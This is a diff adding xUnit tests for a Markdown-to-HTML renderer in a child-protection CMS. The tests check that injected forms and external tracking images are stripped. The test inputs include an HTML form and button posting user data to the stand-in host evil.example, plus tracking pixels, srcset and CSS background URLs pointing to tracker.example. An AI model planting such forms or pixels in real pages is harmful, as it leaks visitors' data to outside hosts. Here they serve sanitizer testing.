@@ -1,10 +1,11 @@
 using ChildProtection.Cms.Text;
+using Microsoft.Extensions.Options;
 
 namespace ChildProtection.Cms.Tests.Text;
 
 public sealed class MarkdownRendererTests
 {
-    private readonly MarkdownRenderer _renderer = new();
+    private readonly MarkdownRenderer _renderer = new(new PictureSources(Options.Create(new ContentOptions())));
 
     [Fact]
     public void ToHtml_MarkdownWithHeadingListAndPhoneLink_RendersThem()
@@ -26,6 +27,50 @@ public sealed class MarkdownRendererTests
         Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
         Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
         Assert.Contains("Xin chào", html);
+    }
+
+    [Fact]
+    public void ToHtml_FormWithActionAndControls_Dropped()
+    {
+        var html = _renderer.ToHtml("""
+            Đăng ký nhận tin:
+
+            <form action="https://evil.example/thu" method="post"><input name="email"><textarea name="t"></textarea><select name="s"><option>1</option></select><button formaction="https://evil.example/b">Gửi</button></form>
+
+            Gọi 111.
+            """);
+
+        foreach (var gone in new[] { "<form", "action", "<input", "<button", "<textarea", "<select", "<option", "evil.example" })
+        {
+            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
+        }
+
+        Assert.Contains("Đăng ký nhận tin:", html);
+        Assert.Contains("Gọi 111.", html);
+    }
+
+    [Fact]
+    public void ToHtml_PicturesFromOutside_OnlyMediaLibraryAndAllowedHostsKept()
+    {
+        const string Markdown = """
+            ![Sơ đồ](/media/0b4f/so-do.png) ![Theo dõi](https://tracker.example/p.png) ![Ảnh bạn](https://anh.example.vn/a.png)
+
+            <img src="http://tracker.example/raw.gif" alt="Pixel"> <img srcset="https://tracker.example/s.png 2x" alt="Bộ ảnh"> <p style="background-image: url(https://tracker.example/bg.png)">nền</p>
+
+            [Trang của Bộ](https://tracker.example/tin-tuc)
+            """;
+        var allowing = new MarkdownRenderer(new PictureSources(Options.Create(new ContentOptions { AllowedImageHosts = ["ANH.example.vn"] })));
+
+        var html = _renderer.ToHtml(Markdown);
+        var allowed = allowing.ToHtml(Markdown);
+
+        Assert.Contains("""<img src="/media/0b4f/so-do.png" alt="Sơ đồ">""", html);
+        Assert.Equal(1, html.Split("tracker.example").Length - 1);
+        Assert.Contains("""<a href="https://tracker.example/tin-tuc">Trang của Bộ</a>""", html);
+        Assert.DoesNotContain("anh.example.vn", html);
+        Assert.Contains("Theo dõi", html);
+        Assert.Contains("Pixel", html);
+        Assert.Contains("""<img src="https://anh.example.vn/a.png" alt="Ảnh bạn">""", allowed);
     }
 
     [Fact]
